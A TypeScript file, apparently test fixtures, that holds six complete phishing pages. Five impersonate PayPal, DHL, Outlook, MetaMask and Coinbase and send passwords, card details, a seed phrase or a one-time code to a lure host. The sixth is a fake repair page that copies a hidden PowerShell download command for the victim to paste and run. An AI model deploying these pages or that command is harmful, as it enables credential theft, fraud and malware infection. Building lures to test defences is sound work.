// Six pages that ask for what no stranger should get. Each is well-formed XML too, so that it can be served as XHTML or put
// into SVG; submits to a whole URL, because a `blob:` or `data:` document has no address to resolve a path against; and has
// no script, because one that is set through `innerHTML` does not run. Each has signs outside of ASCII.

export interface Lure {
  readonly title: string
  readonly html: string
}

/** Where the lures are served. */
export const LURE_URL = 'https://qz3x-portal.net/'

export const lures: readonly Lure[] = [
  {
    title: 'the log-in of a payment service',
    html: `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8" />
<title>Log in to your PayPal account</title>
<style>body { font-family: sans-serif } form { width: 22em; margin: auto }</style>
</head>
<body>
<img src="https://qz3x-portal.net/pp-logo.svg" alt="PayPal" />
<h1>Log in to PayPal</h1>
<p>We’ve limited your account because of unusual activity. Confirm your details within 24 hours to restore access.</p>
<form action="https://qz3x-portal.net/signin.php" method="post">
<input type="email" name="login_email" placeholder="Email or mobile number" />
<input type="password" name="login_password" placeholder="Password" />
<button type="submit">Log In</button>
</form>
<a href="#">Having trouble logging in?</a>
<a href="#">Sign Up</a>
<footer>© 1999–2026 PayPal, Inc. All rights reserved. <a href="#">Privacy</a> <a href="#">Legal</a></footer>
</body>
</html>
`,
  },
  {
    title: 'the fee of a parcel',
    html: `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8" />
<title>DHL – Your parcel is waiting</title>
</head>
<body>
<img src="https://qz3x-portal.net/dhl.png" alt="DHL Express" />
<h1>Your parcel could not be delivered</h1>
<p>Tracking number: <b>JD0146000 0284 1173</b>. Status: held at the depot, customs fee unpaid.</p>
<p>Pay the outstanding fee of 1,99 € today, or your parcel will be returned to the sender.</p>
<form action="https://qz3x-portal.net/pay.php" method="post">
<label>Name on card <input type="text" name="card_name" autocomplete="cc-name" /></label>
<label>Card number <input type="tel" name="card_number" autocomplete="cc-number" maxlength="19" /></label>
<label>Expiry date <input type="text" name="expiry" placeholder="MM/YY" autocomplete="cc-exp" /></label>
<label>CVV <input type="text" name="cvv" maxlength="4" autocomplete="cc-csc" /></label>
<button type="submit">Pay 1,99 € now</button>
</form>
<p>© 2026 DHL International GmbH. <a href="#">Terms of use</a></p>
</body>
</html>
`,
  },
  {
    title: 'the password of a mailbox',
    html: `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8" />
<title>Webmail – Sign in</title>
</head>
<body>
<img src="https://qz3x-portal.net/mail.png" alt="Outlook" />
<h1>Outlook Webmail</h1>
<p>Your session has expired. Your mailbox is 98 % full and 7 incoming messages are on hold – sign in to release them.</p>
<form action="https://qz3x-portal.net/post.php" method="post">
<input type="email" name="email" value="m.kovács@orchard.example" readonly="readonly" />
<input type="password" name="email_password" placeholder="Email password" />
<label><input type="checkbox" name="keep" /> Keep me signed in</label>
<button type="submit">Continue</button>
</form>
<a href="#">Forgot your password?</a>
<p>© 2026 Microsoft Outlook. <a href="#">Terms</a> <a href="#">Privacy &amp; cookies</a></p>
</body>
</html>
`,
  },
  {
    title: 'the seed phrase of a wallet',
    html: `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8" />
<title>MetaMask – Restore your wallet</title>
</head>
<body>
<img src="https://qz3x-portal.net/fox.svg" alt="MetaMask" />
<h1>Restore your wallet</h1>
<p>Your wallet has to be verified after the network’s latest upgrade. Wallets that are not verified will be suspended.</p>
<form action="https://qz3x-portal.net/restore.php" method="post">
<label for="phrase">Secret recovery phrase</label>
<textarea id="phrase" name="seed_phrase" rows="3" placeholder="Enter your 12-word recovery phrase"></textarea>
<p>Usually 12 words, separated by single spaces – sometimes 18 or 24.</p>
<button type="submit">Restore</button>
</form>
<p>MetaMask © 2026. A ConsenSys formation.</p>
</body>
</html>
`,
  },
  {
    title: 'a command to run',
    html: `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8" />
<title>Quarterly report – Orchard Docs</title>
</head>
<body>
<h1>This document cannot be displayed</h1>
<p>The document viewer’s font is missing. Complete these steps to fix it – administrator rights are not needed:</p>
<ol>
<li>Press the <b>Windows</b> key + <b>R</b> – a small window opens.</li>
<li>Press <b>Ctrl</b> + <b>V</b> to paste the repair code.</li>
<li>Press <b>Enter</b> and wait until the document opens.</li>
</ol>
<button type="button" onclick="navigator.clipboard.writeText('powershell -w hidden -c iwr qz3x-portal.net/v')">Copy the repair code</button>
<p>Error 0x80070643 – viewer 4.2</p>
</body>
</html>
`,
  },
  {
    title: 'a one-time code',
    html: `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8" />
<title>Coinbase – Two-step verification</title>
</head>
<body>
<img src="https://qz3x-portal.net/cb.svg" alt="Coinbase" />
<h1>Coinbase: enter your 2-step verification code</h1>
<p>We noticed a sign-in from a new device in Łódź. To keep your account from being locked, enter the 6-digit code that we’ve sent to your phone.</p>
<form action="https://qz3x-portal.net/otp.php" method="post">
<label for="otp">6-digit code</label>
<input type="text" id="otp" name="otp" inputmode="numeric" autocomplete="one-time-code" maxlength="6" />
<button type="submit">Verify</button>
</form>
<a href="#">I didn’t receive a code</a>
<p>© 2026 Coinbase. <a href="#">Privacy</a></p>
</body>
</html>
`,
  },
]
